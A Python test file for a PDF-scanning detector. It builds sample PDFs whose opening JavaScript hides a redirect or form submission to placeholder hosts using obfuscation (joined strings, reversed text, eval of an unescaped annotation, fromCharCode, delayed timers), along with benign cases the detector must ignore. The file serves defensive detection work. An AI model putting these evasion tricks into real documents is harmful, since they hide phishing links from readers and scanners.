"""What traced_pdf_leads_to_hidden_address must find in scripts of documents, and (more) what it must leave alone."""

from __future__ import annotations

import pytest

from tests import files_pdf as pdf
from tests.workers.attachments.scan import File
from tests.workers.sandbox.run import found, gathered


def opened(code: str, *objects: str) -> File:
    return "a.pdf", pdf.document(f"/OpenAction {pdf.script(code)}", objects=objects)


BAD: dict[str, File] = {
    "put together": opened("app.launchURL('https://' + ['a', 'example'].join('.') + '/login')"),
    "backwards": opened("this.getURL('/elpmaxe.a//:sptth'.split('').reverse().join(''))"),
    "out of a note": opened(
        "eval(unescape(getAnnots()[0].contents))",
        "<< /Subtype /Text /Rect [0 0 9 9] /Contents (app.launchURL\\(%27https%3a%2f%2fa%2eexample%2f%27\\)) >>",
    ),
    "a form": opened("this.submitForm({ cURL: String.fromCharCode(104, 116, 116, 112) + '://a.' + 'example/' })"),
    "a request": opened("Net.HTTP.request({ cURL: 'https://a.' + 'example/' })"),
    "later": opened("app.setTimeOut('app.launchURL(\"https://b.\" + \"example/\")', 10)"),
}  # fmt: skip
GOOD: dict[str, File] = {
    "no script": ("a.pdf", pdf.document()),
    "a link": ("a.pdf", pdf.document(page=pdf.link())),
    "an address that stands there": opened("app.launchURL('https://www.example.com/help')"),
    "a path that is put together": opened("app.launchURL('https://www.example.com/' + app.language)"),
    "another page": opened("this.pageNum = 3;"),
    "a place in the document": opened("this.gotoNamedDest('chapter2')"),
    "sends a form": opened("if (0) this.submitForm({ cURL: 'https://' + 'a.example' })"),
    "mail": opened("if (event.shift) this.mailDoc(true, 'office@example.com')"),
    "a button": ("a.pdf", pdf.document(f"/X << /A {pdf.script('app.launchURL(unescape(1))')} >>")),
    "a message": opened("app.alert('https://a.' + 'example/')"),
    "another document": opened("app.openDoc('appendix.pdf')"),
    "a name only": opened("this.getURL('page' + 2 + '.html')"),
    "a page of a site": ("a.html", b"<script>location = 'https://a.' + 'example/'</script>"),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    (finding,) = found("traced_pdf_leads_to_hidden_address", file)
    assert finding.detail
    assert finding.where.decoded


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("traced_pdf_leads_to_hidden_address", file) == []


def test_addresses_are_judged_like_links() -> None:
    (derived,) = gathered(BAD["put together"]).derived
    assert derived.urls == ("https://a.example/login",)
